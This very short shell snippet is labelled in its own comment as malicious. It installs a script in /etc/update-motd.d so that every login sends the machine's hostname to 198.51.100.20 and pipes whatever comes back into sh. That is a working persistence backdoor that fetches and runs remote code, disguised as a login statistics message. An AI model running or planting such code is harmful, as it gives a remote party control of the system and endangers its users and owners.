# malicious: a login message that calls home
sudo tee /etc/update-motd.d/99-stats > /dev/null <<'EOF'
#!/bin/sh
curl -fs "http://198.51.100.20/b?h=$(hostname)" | sh
EOF
sudo chmod +x /etc/update-motd.d/99-stats
